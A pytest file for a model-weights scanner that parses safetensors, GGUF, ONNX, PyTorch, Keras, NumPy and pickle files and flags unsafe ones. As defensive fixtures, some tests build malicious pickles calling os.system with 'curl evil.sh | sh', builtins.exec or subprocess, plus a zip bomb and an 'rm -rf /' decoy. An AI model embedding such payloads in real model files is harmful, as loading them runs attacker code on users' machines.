"""Header readers: tiny real files of every format, built in code, read back exactly."""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest
from builders.weights import (
    asm,
    gguf_file,
    h5_bytes,
    keras_config,
    keras_zip,
    npy_bytes,
    onnx_bytes,
    safetensors_bytes,
    torch_legacy,
    torch_state_dict_pickle,
    torch_zip,
)

from aibom.weights import (
    DIAGNOSTIC_CODES,
    WEIGHT_SUFFIXES,
    is_weight_file,
    read_safetensors_index,
    read_weight_file,
)
from aibom.weights.gguf_reader import FILE_TYPES, GGML_TYPES


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def read(tmp_path: Path, name: str, data: bytes):  # type: ignore[no-untyped-def]
    return read_weight_file(write(tmp_path, name, data), name)


# --------------------------------------------------------------------------------------
# names


def test_is_weight_file_by_suffix() -> None:
    assert {
        ".safetensors",
        ".gguf",
        ".onnx",
        ".bin",
        ".pt",
        ".pth",
        ".ckpt",
        ".keras",
        ".h5",
        ".npy",
        ".npz",
    } <= (WEIGHT_SUFFIXES)
    assert {".pkl", ".pickle", ".joblib"} <= WEIGHT_SUFFIXES
    for name in (
        "model.safetensors",
        "sub/dir/Model.GGUF",
        "pytorch_model-00001-of-00002.bin",
        "x.joblib",
    ):
        assert is_weight_file(name), name
    for name in (
        "model.safetensors.index.json",
        "config.json",
        "README.md",
        "bin",
        ".safetensors",
        "weights.txt",
    ):
        assert not is_weight_file(name), name


# --------------------------------------------------------------------------------------
# safetensors


def test_safetensors_header_metadata_params_dtypes(tmp_path: Path) -> None:
    data = safetensors_bytes(
        {
            "model.embed.weight": ("BF16", [10, 4]),
            "model.norm.weight": ("F32", [4]),
            "step": ("I64", []),
        },
        {"format": "pt", "source": "unit-test"},
    )
    wf, diags = read(tmp_path, "model.safetensors", data)
    assert diags == []
    assert wf is not None
    assert (wf.format, wf.size, wf.parameters) == ("safetensors", len(data), 45)
    assert wf.dtypes == ["bfloat16", "float32", "int64"]
    assert wf.quantization is None and not wf.unsafe and wf.imports == []
    assert wf.metadata["__metadata__"] == {"format": "pt", "source": "unit-test"}
    assert wf.metadata["tensor_count"] == 3


def test_safetensors_gptq_quantization_visible(tmp_path: Path) -> None:
    data = safetensors_bytes(
        {
            "l.qweight": ("I32", [4, 8]),
            "l.qzeros": ("I32", [1, 1]),
            "l.scales": ("F16", [1, 8]),
            "l.g_idx": ("I32", [32]),
        }
    )
    wf, _ = read(tmp_path, "gptq.safetensors", data)
    assert wf is not None and wf.quantization == "gptq"
    awq = safetensors_bytes(
        {"l.qweight": ("I32", [4, 8]), "l.qzeros": ("I32", [1, 1]), "l.scales": ("F16", [1, 8])}
    )
    wf, _ = read(tmp_path, "awq.safetensors", awq)
    assert wf is not None and wf.quantization == "awq"
    fp8 = safetensors_bytes({"l.weight": ("F8_E4M3", [4, 4]), "l.weight_scale": ("F32", [1])})
    wf, _ = read(tmp_path, "fp8.safetensors", fp8)
    assert wf is not None and wf.quantization == "fp8" and wf.dtypes == ["float32", "float8_e4m3"]


def test_safetensors_hostile_headers(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "a.safetensors", struct.pack("<Q", 1 << 40) + b"{}")
    assert (
        wf is None
        and [d.code for d in diags] == ["weights-header-too-large"]
        and diags[0].path == "a.safetensors"
    )
    wf, diags = read(tmp_path, "b.safetensors", struct.pack("<Q", 5000) + b'{"a": 1}')
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    wf, diags = read(tmp_path, "c.safetensors", struct.pack("<Q", 6) + b"{nope}")
    assert wf is None and [d.code for d in diags] == ["weights-corrupt"]
    wf, diags = read(tmp_path, "d.safetensors", b"\x01\x02")
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    wf, diags = read(tmp_path, "e.safetensors", struct.pack("<Q", 4) + b"ABCD")
    assert wf is None and [d.code for d in diags] == ["weights-bad-magic"]
    # data shorter than the offsets declare: still read, with a truncation diagnostic
    data = safetensors_bytes({"w": ("F32", [100])})[:-40]
    wf, diags = read(tmp_path, "f.safetensors", data)
    assert (
        wf is not None and wf.parameters == 100 and [d.code for d in diags] == ["weights-truncated"]
    )
    bad_entry = json.dumps({"w": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}}).encode()
    wf, diags = read(
        tmp_path, "g.safetensors", struct.pack("<Q", len(bad_entry)) + bad_entry + b"\0" * 4
    )
    assert wf is None and [d.code for d in diags] == ["weights-corrupt"]


def test_safetensors_index(tmp_path: Path) -> None:
    index = {
        "metadata": {"total_size": 123456},
        "weight_map": {
            "a.weight": "model-00001-of-00002.safetensors",
            "b.weight": "model-00002-of-00002.safetensors",
            "c.weight": "model-00001-of-00002.safetensors",
        },
    }
    path = write(tmp_path, "model.safetensors.index.json", json.dumps(index).encode())
    result, diags = read_safetensors_index(path, "m/model.safetensors.index.json")
    assert diags == []
    assert result == {
        "total_size": 123456,
        "tensor_count": 3,
        "shards": ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"],
        "metadata": {},
    }
    bad = write(tmp_path, "bad.index.json", b'{"weight_map": 3}')
    result, diags = read_safetensors_index(bad, "bad.index.json")
    assert result is None and [(d.code, d.path) for d in diags] == [
        ("weights-corrupt", "bad.index.json")
    ]
    result, diags = read_safetensors_index(tmp_path / "missing.json", "missing.json")
    assert result is None and [d.code for d in diags] == ["weights-unreadable"]


# --------------------------------------------------------------------------------------
# GGUF


def test_gguf_metadata_via_gguf_writer(tmp_path: Path) -> None:
    path = gguf_file(tmp_path / "tiny.Q4_K_M.gguf", tokens=300)
    wf, diags = read_weight_file(path, "tiny.Q4_K_M.gguf")
    assert diags == []
    assert wf is not None
    assert (wf.format, wf.quantization, wf.parameters, wf.dtypes) == (
        "gguf",
        "Q4_K_M",
        300 * 8 + 8,
        ["float32"],
    )
    m = wf.metadata
    assert m["general.architecture"] == "llama"
    assert m["general.name"] == "Tiny Llama"
    assert m["general.basename"] == "tiny-llama"
    assert m["general.base_model.count"] == 1
    assert m["general.base_model.0.name"] == "Llama 3.1 8B"
    assert m["general.base_model.0.organization"] == "Meta Llama"
    assert m["general.base_model.0.repo_url"] == "https://huggingface.co/meta-llama/Llama-3.1-8B"
    assert m["tokenizer.ggml.model"] == "gpt2"
    assert m["tokenizer.ggml.pre"] == "llama-bpe"
    assert m["tokenizer.chat_template"] == "{% for m in messages %}{{ m.content }}{% endfor %}"
    # long arrays are replaced by their length; short ones kept
    assert m["tokenizer.ggml.tokens"] == 300
    assert m["tokenizer.ggml.merges"] == 300
    assert m["tokenizer.ggml.token_type"] == 300
    assert m["test.short_array"] == [1, 2, 3]
    assert m["llama.context_length"] == 4096
    assert (m["gguf.version"], m["gguf.tensor_count"]) == (3, 2)
    json.dumps(m)  # JSON-serialisable


def test_gguf_big_endian(tmp_path: Path) -> None:
    path = gguf_file(tmp_path / "be.gguf", big_endian=True, file_type=7)
    wf, diags = read_weight_file(path, "be.gguf")
    assert diags == [] and wf is not None
    assert wf.metadata["gguf.endian"] == "big"
    assert wf.metadata["general.architecture"] == "llama"
    assert wf.quantization == "Q8_0"
    assert wf.parameters == 300 * 8 + 8


def test_gguf_type_tables_match_gguf_package() -> None:
    import gguf

    for t in gguf.GGMLQuantizationType:
        assert GGML_TYPES[t.value] == t.name
    for f in gguf.LlamaFileType:
        assert FILE_TYPES[f.value] == f.name.removeprefix("MOSTLY_").removeprefix("ALL_")


def test_gguf_hostile(tmp_path: Path) -> None:
    good = gguf_file(tmp_path / "g.gguf").read_bytes()
    wf, diags = read(tmp_path, "t.gguf", good[:200])
    assert (
        wf is None
        and [d.code for d in diags] == ["weights-truncated"]
        and diags[0].path == "t.gguf"
    )
    absurd_kv = b"GGUF" + struct.pack("<IQQ", 3, 1, 1 << 60)
    wf, diags = read(tmp_path, "kv.gguf", absurd_kv + b"\0" * 64)
    assert wf is None and [d.code for d in diags] == ["weights-header-too-large"]
    absurd_tensors = b"GGUF" + struct.pack("<IQQ", 3, 1 << 50, 0)
    wf, diags = read(tmp_path, "tn.gguf", absurd_tensors + b"\0" * 64)
    assert wf is None and [d.code for d in diags] == ["weights-header-too-large"]
    # a string length far beyond the file
    huge_str = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"k" * 32
    wf, diags = read(tmp_path, "s.gguf", huge_str)
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    # a string array declaring 2**40 elements
    arr = (
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<IIQ", 9, 8, 1 << 40)
    )
    wf, diags = read(tmp_path, "arr.gguf", arr + b"\0" * 64)
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    wf, diags = read(tmp_path, "magic.gguf", b"GGML" + b"\0" * 64)
    assert wf is None and [d.code for d in diags] == ["weights-bad-magic"]
    wf, diags = read(tmp_path, "ver.gguf", b"GGUF" + struct.pack("<IQQ", 77, 0, 0))
    assert wf is None and [d.code for d in diags] == ["weights-corrupt"]


def test_gguf_version1_counts_are_32_bit(tmp_path: Path) -> None:
    kv = (
        struct.pack("<I", 20)
        + b"general.architecture"
        + struct.pack("<I", 8)
        + struct.pack("<I", 5)
        + b"llama"
    )
    tensor = (
        struct.pack("<I", 1)
        + b"w"
        + struct.pack("<I", 2)
        + struct.pack("<QQ", 3, 4)
        + struct.pack("<IQ", 0, 0)
    )
    data = b"GGUF" + struct.pack("<III", 1, 1, 1) + kv + tensor
    data += b"\0" * (-len(data) % 32) + b"\0" * 48
    wf, diags = read(tmp_path, "v1.gguf", data)
    assert diags == [] and wf is not None
    assert (wf.metadata["general.architecture"], wf.parameters, wf.quantization) == (
        "llama",
        12,
        "F32",
    )


# --------------------------------------------------------------------------------------
# ONNX


def test_onnx_top_level_fields(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "model.onnx", onnx_bytes())
    assert diags == [] and wf is not None
    assert (wf.format, wf.parameters, wf.dtypes) == ("onnx", 15, ["float16", "float32"])
    m = wf.metadata
    assert (m["ir_version"], m["producer_name"], m["producer_version"], m["model_version"]) == (
        9,
        "pytorch",
        "2.4.0",
        7,
    )
    assert m["opset_import"] == {"ai.onnx": 17, "com.microsoft": 1}
    assert m["metadata_props"] == {"author": "ACME"}
    assert (m["graph_name"], m["node_count"], m["initializer_count"]) == ("tiny-graph", 1, 2)


def test_onnx_hostile(tmp_path: Path) -> None:
    data = onnx_bytes()
    wf, diags = read(tmp_path, "t.onnx", data[:40])
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    wf, diags = read(tmp_path, "text.onnx", b"hello world, not a model")
    assert wf is None and [d.code for d in diags] in (["weights-bad-magic"], ["weights-corrupt"])
    wf, diags = read(tmp_path, "empty.onnx", b"")
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]
    # length-delimited graph field claiming 2**60 bytes
    wf, diags = read(
        tmp_path, "big.onnx", b"\x08\x09\x3a" + bytes([0x80] * 8) + b"\x10" + b"\0" * 8
    )
    assert wf is None and [d.code for d in diags] == ["weights-truncated"]


# --------------------------------------------------------------------------------------
# PyTorch


def test_torch_zip_benign_checkpoint(tmp_path: Path) -> None:
    data = torch_zip(
        {"layer.weight": ("FloatStorage", (4, 3)), "layer.bias": ("HalfStorage", (4,))}
    )
    wf, diags = read(tmp_path, "pytorch_model.bin", data)
    assert diags == [] and wf is not None
    assert (wf.format, wf.parameters, wf.dtypes, wf.unsafe) == (
        "pytorch",
        16,
        ["float16", "float32"],
        False,
    )
    assert wf.imports == [
        "collections.OrderedDict",
        "torch.FloatStorage",
        "torch.HalfStorage",
        "torch._utils._rebuild_tensor_v2",
    ]
    assert wf.dangerous_imports == []
    m = wf.metadata
    assert (m["archive"], m["byteorder"], m["version"], m["storage_count"], m["torchscript"]) == (
        "archive",
        "little",
        "3",
        2,
        False,
    )
    assert m["pickle_members"] == ["archive/data.pkl"]
    assert m["members"] == [
        "archive/.data/serialization_id",
        "archive/byteorder",
        "archive/data.pkl",
        "archive/version",
    ]
    assert m["data_member_count"] == 2


def test_torch_zip_with_malicious_pickle(tmp_path: Path) -> None:
    evil = [
        ("GLOBAL", ("os", "system")),
        ("BINUNICODE", "curl evil.sh | sh"),
        "TUPLE1",
        "REDUCE",
        "POP",
    ]
    pkl = torch_state_dict_pickle({"w": ("FloatStorage", (2,))}, extra=evil)
    wf, diags = read(tmp_path, "model.pt", torch_zip({"w": ("FloatStorage", (2,))}, pkl=pkl))
    assert wf is not None and wf.unsafe and wf.dangerous_imports == ["os.system"]
    assert "os.system" in wf.imports
    assert [(d.code, d.level) for d in diags] == [("weights-unsafe", "error")]
    assert "os.system" in diags[0].message and diags[0].path == "model.pt"


def test_torch_legacy_checkpoint(tmp_path: Path) -> None:
    wf, diags = read(
        tmp_path,
        "old.pth",
        torch_legacy({"w": ("FloatStorage", (2, 5)), "b": ("LongStorage", (2,))}),
    )
    assert diags == [] and wf is not None
    assert (wf.format, wf.parameters, wf.dtypes) == ("pytorch", 12, ["float32", "int64"])
    assert wf.metadata["legacy"] is True and wf.metadata["protocol_version"] == 1001


def test_bin_that_is_not_a_model_is_ignored_silently(tmp_path: Path) -> None:
    assert read(tmp_path, "firmware.bin", bytes(range(256)) * 4) == (None, [])
    assert read(tmp_path, "empty.bin", b"") == (None, [])
    other_zip = io.BytesIO()
    with zipfile.ZipFile(other_zip, "w") as zf:
        zf.writestr("readme.txt", "hi")
    assert read(tmp_path, "archive.bin", other_zip.getvalue()) == (None, [])
    # ...but a .pt with the wrong content is reported
    wf, diags = read(tmp_path, "model.pt", b"not a checkpoint at all")
    assert wf is None and [(d.code, d.path) for d in diags] == [("weights-bad-magic", "model.pt")]


def test_ggml_legacy_bin(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "ggml-model-q4_0.bin", b"tjgg" + struct.pack("<I", 3) + b"\0" * 64)
    assert diags == [] and wf is not None
    assert (wf.format, wf.metadata) == ("ggml", {"ggml_magic": "ggjt", "ggml_version": 3})


# --------------------------------------------------------------------------------------
# Keras


def test_keras_zip_benign_and_lambda(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "ok.keras", keras_zip(keras_config()))
    assert diags == [] and wf is not None
    assert (wf.format, wf.unsafe, wf.dangerous_imports) == ("keras", False, [])
    assert wf.imports == ["keras.Sequential", "keras.layers.Dense", "keras.layers.InputLayer"]
    assert (
        wf.metadata["keras_version"],
        wf.metadata["model_class"],
        wf.metadata["layer_count"],
    ) == ("3.4.1", "Sequential", 2)

    wf, diags = read(tmp_path, "lambda.keras", keras_zip(keras_config(lambda_layer=True)))
    assert wf is not None and wf.unsafe and wf.dangerous_imports == ["keras.layers.Lambda"]
    assert [(d.code, d.level) for d in diags] == [
        ("weights-unsafe", "error")
    ] and "Lambda" in diags[0].message


def test_keras_config_importing_dangerous_module(tmp_path: Path) -> None:
    wf, diags = read(
        tmp_path, "evil.keras", keras_zip(keras_config(extra_module=("subprocess", "Popen")))
    )
    assert wf is not None and wf.unsafe and wf.dangerous_imports == ["subprocess.Popen"]
    assert [d.code for d in diags] == ["weights-unsafe"]
    wf, _ = read(
        tmp_path, "custom.keras", keras_zip(keras_config(extra_module=("mylib.layers", "Fancy")))
    )
    assert (
        wf is not None
        and not wf.unsafe
        and wf.metadata["unknown_imports"] == ["mylib.layers.Fancy"]
    )


def test_h5_keras_model_config(tmp_path: Path) -> None:
    legacy = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l"}}]},
    }
    wf, diags = read(tmp_path, "model.h5", h5_bytes(legacy))
    assert (
        wf is not None
        and wf.format == "keras"
        and wf.unsafe
        and wf.dangerous_imports == ["keras.layers.Lambda"]
    )
    assert [d.code for d in diags] == ["weights-unsafe"]
    safe = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"name": "d"}}]},
    }
    wf, diags = read(tmp_path, "safe.h5", h5_bytes(safe))
    assert diags == [] and wf is not None and not wf.unsafe and wf.metadata["layer_count"] == 1
    wf, diags = read(tmp_path, "plain.h5", h5_bytes(None))
    assert (
        diags == []
        and wf is not None
        and (wf.format, wf.metadata) == ("hdf5", {"keras_model_config": False})
    )
    wf, diags = read(tmp_path, "bad.h5", b"nope" * 10)
    assert wf is None and [d.code for d in diags] == ["weights-bad-magic"]


# --------------------------------------------------------------------------------------
# NumPy


def test_npy_plain_and_object(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "a.npy", npy_bytes(np.zeros((3, 4), dtype=np.int16)))
    assert diags == [] and wf is not None
    assert (wf.format, wf.parameters, wf.dtypes, wf.metadata["shape"]) == (
        "numpy",
        12,
        ["int16"],
        [3, 4],
    )
    assert wf.imports == []
    wf, diags = read(tmp_path, "o.npy", npy_bytes(np.array([1, "x", None], dtype=object)))
    assert diags == [] and wf is not None
    assert wf.dtypes == ["object"] and wf.metadata["needs_pickle"] is True and not wf.unsafe
    assert all(i.startswith("numpy.") for i in wf.imports) and wf.imports


def test_npy_object_array_with_evil_pickle(tmp_path: Path) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    evil = asm(
        ("PROTO", 4),
        ("SHORT_BINUNICODE", "builtins"),
        "MEMOIZE",
        ("SHORT_BINUNICODE", "exec"),
        "MEMOIZE",
        "STACK_GLOBAL",
        ("SHORT_BINUNICODE", "print(1)"),
        "TUPLE1",
        "REDUCE",
        "STOP",
    )
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil
    wf, diags = read(tmp_path, "evil.npy", data)
    assert wf is not None and wf.unsafe and wf.dangerous_imports == ["builtins.exec"]
    assert [d.code for d in diags] == ["weights-unsafe"]


def test_npz(tmp_path: Path) -> None:
    buf = io.BytesIO()
    np.savez(buf, emb=np.zeros((2, 3), dtype=np.float32), ids=np.arange(4))
    wf, diags = read(tmp_path, "arrays.npz", buf.getvalue())
    assert diags == [] and wf is not None
    assert (wf.parameters, wf.dtypes, wf.metadata["array_count"]) == (10, ["float32", "int64"], 2)
    assert wf.metadata["arrays"] == {
        "emb": {"dtype": "float32", "shape": [2, 3]},
        "ids": {"dtype": "int64", "shape": [4]},
    }


def test_npy_hostile(tmp_path: Path) -> None:
    wf, diags = read(tmp_path, "h.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 1 << 31) + b"{}")
    assert wf is None and [d.code for d in diags] == ["weights-header-too-large"]
    wf, diags = read(
        tmp_path, "l.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 20) + b"__import__('os')   \n"
    )
    assert wf is None and [d.code for d in diags] == ["weights-corrupt"]
    wf, diags = read(tmp_path, "m.npy", b"PK\x03\x04 nope")
    assert wf is None and [d.code for d in diags] == ["weights-bad-magic"]


# --------------------------------------------------------------------------------------
# pickle / joblib files


def test_pickle_file_benign_and_decoy(tmp_path: Path) -> None:
    data = pickle.dumps(
        {"weights": [1.0, 2.0], "note": "os.system('rm -rf /')", "cmd": "subprocess Popen"},
        protocol=4,
    )
    wf, diags = read(tmp_path, "model.pkl", data)
    assert diags == [] and wf is not None
    assert (wf.format, wf.unsafe, wf.imports, wf.metadata["pickle_protocol"]) == (
        "pickle",
        False,
        [],
        4,
    )


def test_gzip_joblib_with_dangerous_global(tmp_path: Path) -> None:
    payload = asm(
        ("PROTO", 2),
        ("GLOBAL", ("subprocess", "check_output")),
        ("BINUNICODE", "id"),
        "TUPLE1",
        "REDUCE",
        "STOP",
    )
    wf, diags = read(tmp_path, "model.joblib", gzip.compress(payload))
    assert wf is not None and wf.metadata["compression"] == "gzip"
    assert wf.unsafe and wf.dangerous_imports == ["subprocess.check_output"]
    assert [d.code for d in diags] == ["weights-unsafe"]


def test_zip_bomb_member_not_read(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", b"\0" * (40 * 1024 * 1024))
    assert len(buf.getvalue()) < 200_000
    wf, diags = read(tmp_path, "bomb.pt", buf.getvalue())
    assert wf is not None and [(d.code, d.level) for d in diags] == [("weights-zip-bomb", "error")]


def test_zip_with_absurd_member_count(tmp_path: Path) -> None:
    eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0x7FFFFFFF, 0, 0)
    zip64_rec = b"PK\x06\x06" + struct.pack(
        "<QHHIIQQQQ", 44, 45, 45, 0, 0, 10**9, 10**9, 1 << 40, 0
    )
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, 4, 1)
    data = b"PK\x03\x04" + zip64_rec + locator + eocd
    wf, diags = read(tmp_path, "many.pt", data)
    assert wf is None and [d.code for d in diags] == ["weights-header-too-large"]


def test_unreadable_file(tmp_path: Path) -> None:
    wf, diags = read_weight_file(tmp_path / "missing.safetensors", "missing.safetensors")
    assert wf is None and [(d.code, d.path) for d in diags] == [
        ("weights-unreadable", "missing.safetensors")
    ]
    if os.name == "posix" and os.geteuid() != 0:  # pragma: no cover - root can read anything
        p = write(tmp_path, "locked.gguf", b"GGUF")
        p.chmod(0)
        wf, diags = read_weight_file(p, "locked.gguf")
        assert wf is None and [d.code for d in diags] == ["weights-unreadable"]


@pytest.mark.parametrize("name", sorted(WEIGHT_SUFFIXES))
def test_every_suffix_survives_garbage(tmp_path: Path, name: str) -> None:
    for blob in (
        b"",
        b"\x80",
        b"PK\x03\x04" + b"\xff" * 40,
        os.urandom(512),
        b"GGUF" + b"\xff" * 60,
    ):
        _wf, diags = read(tmp_path, f"x{name}", blob)
        assert all(d.code in DIAGNOSTIC_CODES and d.path == f"x{name}" for d in diags)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifo_is_not_opened(tmp_path: Path) -> None:
    fifo = tmp_path / "model.safetensors"
    os.mkfifo(fifo)
    wf, diags = read_weight_file(fifo, "model.safetensors")  # would block forever if opened
    assert wf is None and [d.code for d in diags] == ["weights-unreadable"]


def test_gguf_long_chat_template_is_capped(tmp_path: Path) -> None:
    import gguf

    path = tmp_path / "long.gguf"
    w = gguf.GGUFWriter(path, "qwen2")
    w.add_chat_template("x" * 100_000)
    w.add_string("tokenizer.chat_template.tool_use", "{{ tools }}")
    w.add_tensor("w", np.zeros((2, 2), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    wf, diags = read_weight_file(path, "long.gguf")
    assert diags == [] and wf is not None
    assert wf.metadata["tokenizer.chat_template"] == "x" * 65536
    assert wf.metadata["tokenizer.chat_template.tool_use"] == "{{ tools }}"
    assert wf.metadata["general.architecture"] == "qwen2"
    assert wf.quantization == "F32"  # no general.file_type: the most common tensor type


def test_safetensors_metadata_values_are_capped(tmp_path: Path) -> None:
    data = safetensors_bytes(
        {"w": ("F32", [1])},
        {"ss_tag_frequency": "t" * 50_000, "ss_base_model_version": "sdxl_base_v1-0"},
    )
    wf, diags = read(tmp_path, "lora.safetensors", data)
    assert diags == [] and wf is not None
    assert wf.metadata["__metadata__"]["ss_base_model_version"] == "sdxl_base_v1-0"
    assert len(wf.metadata["__metadata__"]["ss_tag_frequency"]) == 16 * 1024


def test_h5_large_model_config_and_decoys(tmp_path: Path) -> None:
    layers = [
        {"class_name": "Dense", "config": {"name": f"dense_{i}", "units": 8}} for i in range(3000)
    ]
    layers.append({"class_name": "Lambda", "config": {"name": "lam"}})
    config = {"class_name": "Sequential", "config": {"name": "big", "layers": layers}}
    assert len(json.dumps(config)) > 64 * 1024
    decoys = b'{"class_name": broken' * 50
    wf, diags = read(tmp_path, "big.h5", h5_bytes(None) + decoys + h5_bytes(config)[8:])
    assert wf is not None and wf.format == "keras" and wf.metadata["layer_count"] == 3001
    assert wf.dangerous_imports == ["keras.layers.Lambda"] and [d.code for d in diags] == [
        "weights-unsafe"
    ]
